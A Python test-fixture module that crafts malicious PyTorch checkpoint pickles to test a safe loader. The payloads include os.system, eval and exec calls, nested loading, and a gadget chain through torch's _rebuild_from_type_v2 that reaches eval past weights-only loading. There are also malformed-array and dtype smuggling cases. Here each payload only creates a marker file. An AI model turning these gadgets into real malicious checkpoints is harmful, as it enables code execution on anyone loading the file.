"""Crafted checkpoints: each would run code, corrupt memory, or smuggle an object in.

Every builder gets the path of a marker file, which the payload creates if it runs.
"""
import collections
import copyreg
import functools
import io
import os
import pickle
import tarfile
import zipfile

import numpy as np
import torch
from mmengine.config import ConfigDict
from mmengine.logging import HistoryBuffer

try:
    from numpy._core.multiarray import _reconstruct, scalar
except ImportError:  # numpy 1
    from numpy.core.multiarray import _reconstruct, scalar

FLOAT = np.dtype('f8')


class Call:
    """Pickles as a call of ``function``, followed by one BUILD for each state."""

    def __init__(self, function, *args, state=None):
        self.parts = (function, args) if state is None else (function, args, state)

    def __reduce__(self):
        return self.parts


class New:
    """Pickles as a fresh instance of ``cls`` (NEWOBJ) and one BUILD with ``state``."""

    def __init__(self, cls, state):
        self.cls, self.state = cls, state

    @property
    def __class__(self):  # pickle checks that it is the class that it writes
        return self.cls

    def __reduce_ex__(self, protocol):
        return copyreg.__newobj__, (self.cls, ), self.state


def history(**changes):
    state = dict(max_length=10, _log_history=np.ones(2), _count_history=np.ones(2),
                 statistics_methods={})
    state.update(changes)
    return New(HistoryBuffer, state)


def array(shape=(2, ), dtype=FLOAT, fortran=False, raw=bytes(16)):
    return Call(_reconstruct, np.ndarray, (0, ), b'b', state=(1, shape, dtype, fortran, raw))


def dtype(state):
    return Call(np.dtype, 'f8', False, True, state=state)


def touch(marker):
    return f'open({str(marker)!r}, "w").close()'


def evaluate(marker):
    return Call(eval, touch(marker))


def chain(*names):
    """``getattr`` from HistoryBuffer through the names."""
    value = HistoryBuffer
    for name in names:
        value = Call(getattr, value, name)
    return value


def always_allowed_call(marker):
    """The known exploit: torch's ``_rebuild_from_type_v2`` calls what getattr has dug out."""
    rebuild = torch._tensor._rebuild_from_type_v2
    scope = chain('update', '__globals__')
    builtins = Call(rebuild, Call(getattr, scope, 'get'), Call(getattr, scope, '__class__'),
                    ('__builtins__', ), None)
    run = Call(rebuild, Call(getattr, builtins, 'get'), Call(getattr, eval, '__class__'),
               ('eval', ), None)
    return Call(rebuild, run, Call(getattr, None, '__class__'), (touch(marker), ), None)


def state_setter_from_file(marker):
    """HistoryBuffer's own ``__setstate__`` writes ``__setstate__``, the next BUILD calls it."""
    return TwoStates(history(__setstate__=eval), touch(marker))


class TwoStates:
    """An object with a second BUILD, which ``pickle`` itself never writes."""

    def __init__(self, first, second):
        self.first, self.second = first, second


def nested_load(marker):
    inner = io.BytesIO()
    torch.save(evaluate(marker), inner)
    return Call(torch.storage._load_from_bytes, inner.getvalue())


# These run their code when they are unpickled without weights-only loading
RUNNING = {
    'os.system': lambda m: Call(os.system, f'touch {m}'),
    'eval': evaluate,
    'exec': lambda m: Call(exec, touch(m)),
    'functools.partial': lambda m: Call(functools.partial(eval, touch(m))),
    'always allowed call': always_allowed_call,
    'state setter from the file': state_setter_from_file,
    'torch.storage._load_from_bytes': nested_load,
    'eval in the history': lambda m: history(_log_history=evaluate(m)),
    'eval in the statistics': lambda m: history(statistics_methods={'mean': evaluate(m)}),
    'eval in an object array': lambda m: np.array([evaluate(m)], dtype=object),
    'eval in an object scalar': lambda m: Call(scalar, np.dtype(object), evaluate(m)),
    'eval in a state dict': lambda m: {'state_dict': {'weight': evaluate(m)}},
}

# These are refused for what they are, whether or not they come to run code
SMUGGLING = {
    'HistoryBuffer.__init__': lambda: chain('__init__'),
    'HistoryBuffer.update': lambda: chain('update'),
    'HistoryBuffer.__globals__': lambda: chain('min', '__globals__'),
    'getattr of another class': lambda: Call(getattr, torch.Tensor, 'min'),
    'history with two states': lambda: TwoStates(history(), dict(max_length=1)),
    'history with a state setter': lambda: TwoStates(
        history(__setstate__=collections.OrderedDict), {}),
    'history with an extra field': lambda: history(update=1),
    'history with other statistics': lambda: history(_statistics_methods={}),
    'history with a function': lambda: history(callback=chain('min')),
    'history without data': lambda: New(HistoryBuffer, {'a': 1}),
    'history that is a list': lambda: history(_log_history=[1, 2]),
    'history of other lengths': lambda: history(_log_history=np.ones(3)),
    'history of two dimensions': lambda: history(_log_history=np.ones((2, 1))),
    'max_length of text': lambda: history(max_length='10'),
    'max_length of a boolean': lambda: history(max_length=True),
    'max_length below one': lambda: history(max_length=-1),
    'history that is called': lambda: Call(HistoryBuffer, [1], [1]),
    'object array': lambda: np.array([{}], dtype=object),
    'object dtype alone': lambda: np.dtype(object),
    'structured array': lambda: np.zeros(2, dtype=[('a', 'f4'), ('b', object)]),
    'structured numbers': lambda: np.zeros(2, dtype=[('a', 'f4')]),
    'text array': lambda: np.array(['a']),
    'dtype with fields': lambda: dtype(
        (3, '|', None, ('a', ), {'a': (FLOAT, 0)}, 8, 1, 63)),
    'dtype with object flags': lambda: dtype((3, '<', None, None, None, -1, -1, 63)),
    'dtype with a subarray': lambda: dtype((3, '<', (FLOAT, (9, )), None, None, -1, -1, 0)),
    'another class as array': lambda: Call(_reconstruct, HistoryBuffer, (0, ), b'b'),
    'a tensor class as array': lambda: Call(_reconstruct, torch.Tensor, (0, ), b'b'),
    'array that is called': lambda: Call(np.ndarray, (3, )),
    'array beyond its data': lambda: array(shape=(10**12, )),
    'array of overflowing shape': lambda: array(shape=(2**62, 4)),
    'array of negative shape': lambda: array(shape=(-2, -1)),
    'array with text as data': lambda: array(raw='a' * 16),
    'array with objects as data': lambda: array(raw=[{}, {}]),
    'array without dtype': lambda: array(dtype='f8'),
    'array with two states': lambda: TwoStates(array(), (1, (0, ), FLOAT, False, b'x'[:0])),
    'scalar beyond its data': lambda: Call(scalar, FLOAT, b'1234'),
    'scalar of objects': lambda: Call(scalar, np.dtype(object), b'x'),
    'bytes of a size': lambda: Call(bytes, 2**40),
    'config dict of a list': lambda: Call(ConfigDict, [('a', 1)]),
    'whole module': lambda: torch.nn.Linear(2, 2),
}


def dump(value):
    """Pickle with protocol 2, as torch does."""
    if isinstance(value, TwoStates):
        # the streams share no memo entry that is read later
        return dump(value.first)[:-1] + dump(value.second)[2:-1] + pickle.BUILD + pickle.STOP
    return pickle.dumps(value, protocol=2)


def write(path, value, extra=None):
    """Write a checkpoint in the zip format of ``torch.save`` around any pickle."""
    data = value if isinstance(value, bytes) else dump(value)
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        members = {'data.pkl': data, 'byteorder': b'little', 'version': b'3\n', **(extra or {})}
        for name, content in members.items():
            archive.writestr(f'archive/{name}', content)
    return path


def write_legacy(path, value):
    """Write a checkpoint in the format of torch before 1.6: pickles one after another."""
    header = [torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {}]
    path.write_bytes(b''.join(map(dump, header)) + dump(value) + dump([]))
    return path


def write_tar(path, value, first='sys_info'):
    """Write a checkpoint in the tar format of torch before 0.2."""
    with tarfile.open(path, 'w:', format=tarfile.PAX_FORMAT) as archive:
        for name in (first, 'storages', 'tensors', 'pickle'):
            data = dump(value)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path
